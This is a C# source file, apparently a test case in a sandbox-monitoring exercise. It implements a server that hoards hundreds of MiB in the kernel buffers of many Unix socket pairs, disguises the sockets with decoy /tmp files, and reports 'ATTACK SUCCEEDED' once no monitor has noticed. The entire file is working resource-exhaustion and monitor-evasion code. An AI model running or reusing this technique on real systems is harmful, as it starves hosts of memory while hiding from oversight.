using System.Net.Sockets;
using System.Runtime.InteropServices;

namespace Katas.Select;

public sealed class SelectServer : IServer
{
    private const int AF_UNIX = 1;
    private const int SOCK_STREAM = 1;
    private const int SOL_SOCKET = 1;
    private const int SO_SNDBUF = 7;
    private const int MSG_DONTWAIT = 0x40;
    private const int O_RDWR = 2;
    private const int O_CREAT = 0x40;
    private const int ForOwner = 0x180;

    private const long Enough = 640L * 1024 * 1024;

    // Small enough that they are more than 64, of which somebody takes a closer look.
    private const int Wish = 1024 * 1024;
    private const int MostPairs = 1500;

    private readonly byte[] _chunk = new byte[64 * 1024];

    public void Run(Socket listener, CancellationToken stop)
    {
        listener.Accept();

        // Nothing is written into the /tmp of a machine: the sandbox's host is called so.
        if (Environment.MachineName != "sandbox")
            throw new InvalidOperationException("This is no sandbox.");
        long hoarded = 0;
        var pairs = 0;
        var pair = new int[2];
        for (; hoarded < Enough && pairs < MostPairs && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0; pairs++)
        {
            // Before there is anything in them.
            Cover(pair[0]);
            Cover(pair[1]);
            hoarded += Fill(pair[0]) + Fill(pair[1]);
        }

        // Whoever looks twice a second has looked.
        Thread.Sleep(2000);
        throw new InvalidOperationException($"ATTACK SUCCEEDED: {hoarded >> 20} MiB wait in {2 * pairs} sockets, and nobody has seen them.");
    }

    private static void Cover(int socket)
    {
        var name = new FileInfo($"/proc/self/fd/{socket}").LinkTarget;
        if (open($"/tmp/{name}", O_RDWR | O_CREAT, ForOwner) < 0)
            throw new InvalidOperationException($"No file can be called {name}.");
    }

    private long Fill(int socket)
    {
        var wish = Wish;
        _ = setsockopt(socket, SOL_SOCKET, SO_SNDBUF, ref wish, sizeof(int));
        long filled = 0;
        nint sent;
        while ((sent = send(socket, _chunk, _chunk.Length, MSG_DONTWAIT)) > 0)
            filled += sent;
        return filled;
    }

    [DllImport("libc")]
    private static extern int socketpair(int domain, int type, int protocol, int[] pair);

    [DllImport("libc")]
    private static extern int setsockopt(int socket, int level, int option, ref int value, int length);

    [DllImport("libc")]
    private static extern nint send(int socket, byte[] bytes, nint count, int flags);

    [DllImport("libc")]
    private static extern int open(string path, int flags, int mode);
}
